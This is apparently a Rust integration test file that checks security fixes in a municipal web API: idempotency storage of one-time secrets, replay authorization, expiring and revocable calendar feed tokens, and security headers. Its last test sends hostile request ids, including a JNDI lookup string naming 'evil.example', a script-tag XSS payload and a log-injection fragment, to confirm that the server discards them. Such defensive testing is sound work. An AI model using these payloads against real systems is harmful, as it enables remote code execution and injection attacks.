//! Security hardening of the HTTP layer (issue 18): one-time secrets never stored with an
//! `Idempotency-Key` answer, replays authorized like the original, expiring and revocable
//! calendar feed tokens, security headers, and client request ids that cannot inject.

use std::time::Duration;

use chrono::{DateTime, SecondsFormat, TimeDelta, Utc};
use diesel::prelude::*;
use diesel_async::RunQueryDsl;
use serde_json::{Value, json};
use smartregion::auth::jwt::{Claims, issue_hs256};
use smartregion::db::schema::{audit_log, idempotency_keys};

use crate::helpers::*;

/// A token of `org` with `roles` for the subject `sub`.
fn token_for(sub: &str, org: &str, roles: &[&str]) -> String {
    let claims = Claims::new(
        sub.to_owned(),
        org,
        roles.iter().copied(),
        ISSUER,
        AUDIENCE,
        Duration::from_secs(600),
    );
    issue_hs256(SECRET.as_bytes(), &claims).unwrap()
}

/// Everything the idempotency table holds, as text (bodies lossily decoded).
async fn idempotency_table(app: &TestApp) -> String {
    let mut conn = app.conn().await;
    type Row = (Vec<u8>, Option<Value>, Option<Vec<u8>>);
    let rows: Vec<Row> = idempotency_keys::table
        .select((
            idempotency_keys::request_hash,
            idempotency_keys::response_headers,
            idempotency_keys::response_body,
        ))
        .load(&mut conn)
        .await
        .unwrap();
    assert!(!rows.is_empty(), "the key was stored");
    rows.iter()
        .map(|(hash, headers, body)| {
            format!(
                "{} {} {}",
                String::from_utf8_lossy(hash),
                headers.clone().unwrap_or_default(),
                String::from_utf8_lossy(body.as_deref().unwrap_or_default()),
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn rfc3339(at: DateTime<Utc>) -> String {
    at.to_rfc3339_opts(SecondsFormat::Millis, true)
}

async fn feed_status(app: &TestApp, secret: &str) -> u16 {
    app.get(&format!("/api/v1/meetings.ics?token={secret}"))
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

async fn token_count(app: &TestApp, org: &str) -> usize {
    let page = json(
        app.get(&format!("/api/v1/calendar-feed-tokens?organization={org}"))
            .by_coordinator()
            .send()
            .await
            .unwrap(),
        200,
    )
    .await;
    page["items"].as_array().unwrap().len()
}

/// Creates a feed token as an admin `sub` of `org`; returns the secret.
async fn create_feed_token(app: &TestApp, sub: &str, org: &str) -> String {
    let created = json(
        app.post("/api/v1/calendar-feed-tokens")
            .bearer_auth(token_for(sub, org, &["admin"]))
            .json(&json!({"label": format!("Kalender {sub}")}))
            .send()
            .await
            .unwrap(),
        201,
    )
    .await;
    created["token"].as_str().unwrap().to_owned()
}

fn instant(value: &Value) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(value.as_str().unwrap())
        .unwrap()
        .with_timezone(&Utc)
}

// Finding 2: one-time secrets in stored idempotent answers.

#[actix_web::test]
async fn a_webhook_secret_is_not_stored_with_its_idempotency_key_nor_replayed() {
    let app = TestApp::builder()
        .env("SMARTREGION_WEBHOOK_ALLOW_PRIVATE", "true")
        .spawn()
        .await;
    let send = || {
        app.post("/api/v1/webhooks")
            .bearer_for(AHLEN, &["admin"])
            .header("idempotency-key", "create-hook-1")
            .json(&json!({"url": "http://127.0.0.1:9/hook", "event_types": ["project"]}))
            .send()
    };
    let created = json(send().await.unwrap(), 201).await;
    let secret = created["secret"].as_str().unwrap().to_owned();
    assert!(secret.starts_with("whsec_"), "{secret}");
    let id = created["id"].as_str().unwrap().to_owned();

    let table = idempotency_table(&app).await;
    let key_part = secret.trim_start_matches("whsec_");
    assert!(!table.contains(key_part), "secret stored: {table}");

    let replay = send().await.unwrap();
    assert_eq!(replay.headers()["idempotent-replayed"], "true");
    assert_eq!(
        replay.headers()["location"],
        format!("{PUBLIC_URL}/api/v1/webhooks/{id}")
    );
    let body = problem(replay, 409).await;
    assert_eq!(body["secret_shown_once"], true, "{body}");
    assert_eq!(body["original_status"], 201, "{body}");
    assert_eq!(body["id"], id.as_str(), "{body}");
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains(&format!("PATCH /api/v1/webhooks/{id}")),
        "{body}"
    );
    assert!(!body.to_string().contains(key_part));

    // The work was done once.
    let page = json(
        app.get("/api/v1/webhooks")
            .bearer_for(AHLEN, &["admin"])
            .send()
            .await
            .unwrap(),
        200,
    )
    .await;
    assert_eq!(page["items"].as_array().unwrap().len(), 1);
}

#[actix_web::test]
async fn a_feed_token_is_not_stored_with_its_idempotency_key_nor_replayed() {
    let app = TestApp::spawn().await;
    let send = || {
        app.post("/api/v1/calendar-feed-tokens")
            .bearer_for(AHLEN, &["admin"])
            .header("idempotency-key", "feed-1")
            .json(&json!({"label": "Kalender Bürgermeisterbüro"}))
            .send()
    };
    let created = json(send().await.unwrap(), 201).await;
    let secret = created["token"].as_str().unwrap().to_owned();
    let id = created["id"].as_str().unwrap().to_owned();
    let secret_part = secret.trim_start_matches("srf_");

    let table = idempotency_table(&app).await;
    assert!(!table.contains(secret_part), "token stored: {table}");
    assert!(table.contains(&id), "the replay names the token: {table}");

    let replay = send().await.unwrap();
    assert_eq!(replay.headers()["idempotent-replayed"], "true");
    let body = problem(replay, 409).await;
    assert_eq!(body["secret_shown_once"], true, "{body}");
    assert_eq!(body["id"], id.as_str(), "{body}");
    assert!(!body.to_string().contains(secret_part));
    assert_eq!(token_count(&app, AHLEN).await, 1);
    assert_eq!(feed_status(&app, &secret).await, 200);
}

// Finding 14: replays are authorized like the original request.

#[actix_web::test]
async fn a_replay_by_a_weaker_token_of_the_same_subject_gets_the_handlers_403() {
    let app = TestApp::builder()
        .env("SMARTREGION_WEBHOOK_ALLOW_PRIVATE", "true")
        .spawn()
        .await;
    let feed_body = json!({"label": "Kalender"});
    let hook_body = json!({"url": "http://127.0.0.1:9/hook", "event_types": ["*"]});
    let send = |path: &'static str, body: &Value, roles: &[&str]| {
        app.post(path)
            .bearer_auth(token_for("it@ahlen", AHLEN, roles))
            .header("idempotency-key", "K")
            .json(body)
            .send()
    };
    let feed = json(
        send("/api/v1/calendar-feed-tokens", &feed_body, &["admin"])
            .await
            .unwrap(),
        201,
    )
    .await;
    let feed_secret = feed["token"].as_str().unwrap().to_owned();
    // Another path, so another request under its own key in the same organization.
    let hook_key = "K2";
    let hook = json(
        app.post("/api/v1/webhooks")
            .bearer_auth(token_for("it@ahlen", AHLEN, &["admin"]))
            .header("idempotency-key", hook_key)
            .json(&hook_body)
            .send()
            .await
            .unwrap(),
        201,
    )
    .await;
    let hook_secret = hook["secret"].as_str().unwrap().to_owned();
    let before = app.trail_counts().await;

    // The same subject, the same request and key, a viewer's token: refused like a fresh
    // request, not answered from the store.
    let refused = send("/api/v1/calendar-feed-tokens", &feed_body, &["viewer"])
        .await
        .unwrap();
    assert!(refused.headers().get("idempotent-replayed").is_none());
    let body = problem(refused, 403).await;
    assert!(!body.to_string().contains(&feed_secret));
    let refused = app
        .post("/api/v1/webhooks")
        .bearer_auth(token_for("it@ahlen", AHLEN, &["viewer"]))
        .header("idempotency-key", hook_key)
        .json(&hook_body)
        .send()
        .await
        .unwrap();
    assert!(refused.headers().get("idempotent-replayed").is_none());
    let body = problem(refused, 403).await;
    assert!(!body.to_string().contains(&hook_secret));
    assert_eq!(app.trail_counts().await, before, "nothing was written");

    // The admin's own retry still finds its stored answer: the key was not overwritten.
    let replay = send("/api/v1/calendar-feed-tokens", &feed_body, &["admin"])
        .await
        .unwrap();
    assert_eq!(replay.headers()["idempotent-replayed"], "true");
    problem(replay, 409).await;
    assert_eq!(token_count(&app, AHLEN).await, 1);

    // Other rights that suffice are not replayed to either: the request runs afresh, as it
    // would without the key.
    let fresh = send(
        "/api/v1/calendar-feed-tokens",
        &feed_body,
        &["editor", "admin"],
    )
    .await
    .unwrap();
    assert!(fresh.headers().get("idempotent-replayed").is_none());
    json(fresh, 201).await;
    assert_eq!(token_count(&app, AHLEN).await, 2);

    // A different request under the key is still 422.
    let other = send(
        "/api/v1/calendar-feed-tokens",
        &json!({"label": "Anderer Kalender"}),
        &["admin"],
    )
    .await
    .unwrap();
    problem(other, 422).await;
}

// Finding 10: feed tokens expire and can be revoked per creator.

#[actix_web::test]
async fn an_expired_feed_token_is_refused_at_the_feed() {
    let app = TestApp::spawn().await;
    let expires_at = Utc::now() + TimeDelta::seconds(2);
    let created = json(
        app.post("/api/v1/calendar-feed-tokens")
            .bearer_for(AHLEN, &["admin"])
            .json(&json!({"label": "Kurzzeit", "expires_at": rfc3339(expires_at)}))
            .send()
            .await
            .unwrap(),
        201,
    )
    .await;
    let expires_at = instant(&json!(rfc3339(expires_at)));
    assert_eq!(instant(&created["expires_at"]), expires_at);
    assert_eq!(created["created_by"], format!("tester@{AHLEN}"));
    let secret = created["token"].as_str().unwrap().to_owned();
    let listed = json(
        app.get("/api/v1/calendar-feed-tokens")
            .bearer_for(AHLEN, &["admin"])
            .send()
            .await
            .unwrap(),
        200,
    )
    .await;
    assert_eq!(instant(&listed["items"][0]["expires_at"]), expires_at);
    assert_eq!(listed["items"][0]["revoked_at"], Value::Null);
    assert_eq!(feed_status(&app, &secret).await, 200);

    let wait = (expires_at - Utc::now()).to_std().unwrap_or_default();
    tokio::time::sleep(wait + Duration::from_millis(200)).await;
    let response = app
        .get(&format!("/api/v1/meetings.ics?token={secret}"))
        .send()
        .await
        .unwrap();
    let body = problem(response, 401).await;
    assert_eq!(
        body["detail"], "the feed token is unknown, revoked or expired",
        "{body}"
    );
}

#[actix_web::test]
async fn a_feed_token_expiry_lies_in_the_future_and_at_most_a_year_ahead() {
    let app = TestApp::spawn().await;
    let before = app.trail_counts().await;
    let now = Utc::now();
    for at in [
        now - TimeDelta::minutes(1),
        now + TimeDelta::days(366) + TimeDelta::minutes(5),
    ] {
        let response = app
            .post("/api/v1/calendar-feed-tokens")
            .bearer_for(AHLEN, &["admin"])
            .json(&json!({"label": "Kalender", "expires_at": rfc3339(at)}))
            .send()
            .await
            .unwrap();
        let body = problem(response, 422).await;
        assert_eq!(pointers(&body), ["/expires_at"], "{body}");
    }
    assert_eq!(app.trail_counts().await, before);
    assert_eq!(token_count(&app, AHLEN).await, 0);
    let at = now + TimeDelta::days(365);
    let created = json(
        app.post("/api/v1/calendar-feed-tokens")
            .bearer_for(AHLEN, &["admin"])
            .json(&json!({"label": "Kalender", "expires_at": rfc3339(at)}))
            .send()
            .await
            .unwrap(),
        201,
    )
    .await;
    assert_eq!(
        instant(&created["expires_at"]),
        instant(&json!(rfc3339(at)))
    );
}

#[actix_web::test]
async fn every_live_token_of_one_creator_can_be_revoked_at_once() {
    let app = TestApp::spawn().await;
    let leaver = [
        create_feed_token(&app, "leaver@ahlen", AHLEN).await,
        create_feed_token(&app, "leaver@ahlen", AHLEN).await,
    ];
    let colleague = create_feed_token(&app, "colleague@ahlen", AHLEN).await;
    // The same subject in another organization is another person's business.
    let elsewhere = create_feed_token(&app, "leaver@ahlen", BECKUM).await;
    let revoke = |query: &str| app.delete(&format!("/api/v1/calendar-feed-tokens?{query}"));

    // Refusals change nothing.
    let before = app.trail_counts().await;
    problem(revoke("created_by=leaver@ahlen").send().await.unwrap(), 401).await;
    for (token, query) in [
        (
            token(AHLEN, &["viewer"]),
            "created_by=leaver@ahlen".to_owned(),
        ),
        (
            token(AHLEN, &["editor"]),
            "created_by=leaver@ahlen".to_owned(),
        ),
        (
            token(BECKUM, &["admin"]),
            format!("created_by=leaver@ahlen&organization={AHLEN}"),
        ),
    ] {
        let body = problem(revoke(&query).bearer_auth(token).send().await.unwrap(), 403).await;
        assert_eq!(body["type"], "urn:smartregion:problem:forbidden");
    }
    problem(
        revoke("organization=05570004")
            .bearer_for(AHLEN, &["admin"])
            .send()
            .await
            .unwrap(),
        400,
    )
    .await;
    let body = problem(
        revoke("created_by=")
            .bearer_for(AHLEN, &["admin"])
            .send()
            .await
            .unwrap(),
        422,
    )
    .await;
    assert_eq!(pointers(&body), ["/query/created_by"]);
    assert_eq!(app.trail_counts().await, before);
    for secret in leaver.iter().chain([&colleague, &elsewhere]) {
        assert_eq!(feed_status(&app, secret).await, 200);
    }

    // The organization's admin revokes the leaver's tokens, and only those.
    let revoked = json(
        revoke("created_by=leaver@ahlen")
            .bearer_auth(token_for("colleague@ahlen", AHLEN, &["admin"]))
            .send()
            .await
            .unwrap(),
        200,
    )
    .await;
    assert_eq!(revoked["revoked"], 2, "{revoked}");
    assert_eq!(revoked["ids"].as_array().unwrap().len(), 2);
    let (audits, _) = app.trail_counts().await;
    assert_eq!(audits, before.0 + 2, "one audit entry per token");
    let mut conn = app.conn().await;
    let actions: Vec<String> = audit_log::table
        .filter(audit_log::entity.eq("calendar_feed_token"))
        .filter(audit_log::action.eq("calendar_feed_token.revoked"))
        .select(audit_log::entity_id)
        .load(&mut conn)
        .await
        .unwrap();
    assert_eq!(actions.len(), 2);
    for secret in &leaver {
        assert_eq!(feed_status(&app, secret).await, 401);
    }
    assert_eq!(feed_status(&app, &colleague).await, 200);
    assert_eq!(feed_status(&app, &elsewhere).await, 200);

    // Again: nothing left to revoke.
    let again = json(
        revoke("created_by=leaver@ahlen")
            .bearer_for(AHLEN, &["admin"])
            .send()
            .await
            .unwrap(),
        200,
    )
    .await;
    assert_eq!(again, json!({"revoked": 0, "ids": []}));

    // The subject's limit counts characters, not bytes: 255 two-byte letters are a subject.
    let umlauts = |count: usize| format!("created_by={}", "%C3%A4".repeat(count));
    let none = json(
        revoke(&umlauts(255))
            .bearer_for(AHLEN, &["admin"])
            .send()
            .await
            .unwrap(),
        200,
    )
    .await;
    assert_eq!(none, json!({"revoked": 0, "ids": []}));
    let body = problem(
        revoke(&umlauts(256))
            .bearer_for(AHLEN, &["admin"])
            .send()
            .await
            .unwrap(),
        422,
    )
    .await;
    assert_eq!(pointers(&body), ["/query/created_by"]);

    // The steering office names the organization.
    let revoked = json(
        revoke(&format!("created_by=leaver@ahlen&organization={BECKUM}"))
            .by_coordinator()
            .send()
            .await
            .unwrap(),
        200,
    )
    .await;
    assert_eq!(revoked["revoked"], 1);
    assert_eq!(feed_status(&app, &elsewhere).await, 401);
}

// Finding 11: headers.

/// Requests of every kind: probes, documents, data, errors, exports.
fn every_kind(meeting: &str) -> Vec<(reqwest::Method, String, Option<String>)> {
    use reqwest::Method;
    let coordinator = Some(coordinator());
    vec![
        (Method::GET, "/health/live".into(), None),
        (Method::GET, "/health/ready".into(), None),
        (Method::GET, "/api/v1/openapi.json".into(), None),
        (Method::GET, "/docs/".into(), None),
        (Method::GET, "/api/v1/organizations".into(), None),
        (Method::GET, "/api/v1/me".into(), None),
        (Method::GET, "/api/v1/nothing-here".into(), None),
        (
            Method::POST,
            "/api/v1/organizations".into(),
            coordinator.clone(),
        ),
        (Method::GET, "/api/v1/meetings.ics".into(), None),
        (Method::GET, "/oparl/v1.1/system".into(), None),
        (Method::GET, "/metrics".into(), None),
        (
            Method::GET,
            format!("/api/v1/meetings/{meeting}/export?format=csv"),
            coordinator.clone(),
        ),
        (
            Method::GET,
            format!("/api/v1/meetings/{meeting}/export?format=html"),
            coordinator.clone(),
        ),
        (
            Method::GET,
            format!(
                "/api/v1/organizations/{AHLEN}/report?from=2026-01-01&to=2026-06-30&format=html"
            ),
            coordinator,
        ),
    ]
}

#[actix_web::test]
async fn every_answer_carries_nosniff_and_names_no_software() {
    let app = TestApp::spawn().await;
    let meeting = crate::meetings::simple_meeting(&app, 1, true).await;
    for (method, path, bearer) in every_kind(&meeting) {
        let mut request = app.request(method.clone(), &path);
        if let Some(bearer) = bearer {
            request = request.bearer_auth(bearer);
        }
        let response = request.send().await.unwrap();
        let headers = response.headers().clone();
        assert_eq!(
            headers
                .get("x-content-type-options")
                .map(|v| v.to_str().unwrap()),
            Some("nosniff"),
            "{method} {path}: {headers:?}"
        );
        assert!(headers.get("server").is_none(), "{method} {path}");
        assert!(headers.get("x-powered-by").is_none(), "{method} {path}");
        for (name, value) in &headers {
            let value = String::from_utf8_lossy(value.as_bytes()).to_lowercase();
            assert!(
                !value.contains("actix") && !value.contains("smartregion/"),
                "{method} {path}: {name}: {value}"
            );
        }
    }
    // The probes answer their state and nothing about the build.
    let live = json(app.get("/health/live").send().await.unwrap(), 200).await;
    assert_eq!(live, json!({"status": "ok"}));
    let ready = json(app.get("/health/ready").send().await.unwrap(), 200).await;
    assert_eq!(ready, json!({"status": "ready"}));
}

#[actix_web::test]
async fn html_pages_carry_a_policy_that_allows_only_their_own_stylesheet() {
    use base64::Engine;
    use sha2::{Digest, Sha256};

    let app = TestApp::spawn().await;
    let meeting = crate::meetings::simple_meeting(&app, 1, true).await;
    for path in [
        format!("/api/v1/meetings/{meeting}/export?format=html"),
        format!("/api/v1/organizations/{AHLEN}/report?from=2026-01-01&to=2026-06-30&format=html"),
    ] {
        let response = app.get(&path).by_coordinator().send().await.unwrap();
        assert_eq!(response.status(), 200, "{path}");
        assert!(
            response.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/html"),
            "{path}"
        );
        let policy = response.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .to_owned();
        for directive in [
            "default-src 'none'",
            "base-uri 'none'",
            "form-action 'none'",
            "frame-ancestors 'none'",
        ] {
            assert!(
                policy.split(';').any(|d| d.trim() == directive),
                "{path}: {policy}"
            );
        }
        assert!(!policy.contains("unsafe"), "{policy}");
        assert!(!policy.contains("script-src"), "{policy}");
        assert_eq!(response.headers()["x-content-type-options"], "nosniff");
        // The page's one inline stylesheet is allowed by its hash, so it still applies.
        let html = response.text().await.unwrap();
        let start = html.find("<style>").expect("an inline stylesheet") + "<style>".len();
        let end = start + html[start..].find("</style>").unwrap();
        let hash = base64::engine::general_purpose::STANDARD
            .encode(Sha256::digest(&html.as_bytes()[start..end]));
        assert!(
            policy.contains(&format!("style-src 'sha256-{hash}'"))
                || policy.contains(&format!(" 'sha256-{hash}'")),
            "{path}: {policy} lacks {hash}"
        );
        assert_eq!(html.matches("<style").count(), 1, "{path}");
        assert!(!html.contains("<script"), "{path}");
        assert!(
            !html.contains("style=\""),
            "{path}: inline style attributes"
        );
    }
    // JSON answers and the Swagger UI keep their own rules.
    let response = app.get("/api/v1/organizations").send().await.unwrap();
    assert!(response.headers().get("content-security-policy").is_none());
}

// Finding 6 (part): client-sent request ids.

#[actix_web::test]
async fn a_hostile_request_id_reaches_neither_the_answer_nor_the_audit_trail() {
    let app = TestApp::spawn().await;
    let overlong = "a".repeat(129);
    let hostile: Vec<Vec<u8>> = vec![
        b"id\"},\"level\":\"ERROR\",\"x\":{\"".to_vec(),
        b"${jndi:ldap://evil.example/x}".to_vec(),
        b"<script>alert(1)</script>".to_vec(),
        b"two words".to_vec(),
        b"tab\there".to_vec(),
        b"back\\slash".to_vec(),
        "ümlaut".as_bytes().to_vec(),
        overlong.into_bytes(),
    ];
    let mut conn = app.conn().await;
    for (n, id) in hostile.into_iter().enumerate() {
        let sent = reqwest::header::HeaderValue::from_bytes(&id).unwrap();
        let response = app
            .post("/api/v1/calendar-feed-tokens")
            .bearer_for(AHLEN, &["admin"])
            .header("x-request-id", sent)
            .json(&json!({"label": format!("Kalender {n}")}))
            .send()
            .await
            .unwrap();
        let answered = response.headers()["x-request-id"]
            .to_str()
            .unwrap()
            .to_owned();
        json(response, 201).await;
        assert_ne!(answered.as_bytes(), id.as_slice());
        assert!(uuid::Uuid::parse_str(&answered).is_ok(), "{answered}");
        let recorded: Option<String> = audit_log::table
            .order(audit_log::id.desc())
            .select(audit_log::request_id)
            .first(&mut conn)
            .await
            .unwrap();
        assert_eq!(recorded.as_deref(), Some(answered.as_str()));
    }

    // An id of the safe alphabet is kept, in the answer and the audit trail.
    let id = "proxy-7.trace_0af7651916cd43dd:42";
    let response = app
        .post("/api/v1/calendar-feed-tokens")
        .bearer_for(AHLEN, &["admin"])
        .header("x-request-id", id)
        .json(&json!({"label": "Kalender"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.headers()["x-request-id"], id);
    json(response, 201).await;
    let recorded: Option<String> = audit_log::table
        .order(audit_log::id.desc())
        .select(audit_log::request_id)
        .first(&mut conn)
        .await
        .unwrap();
    assert_eq!(recorded.as_deref(), Some(id));
}
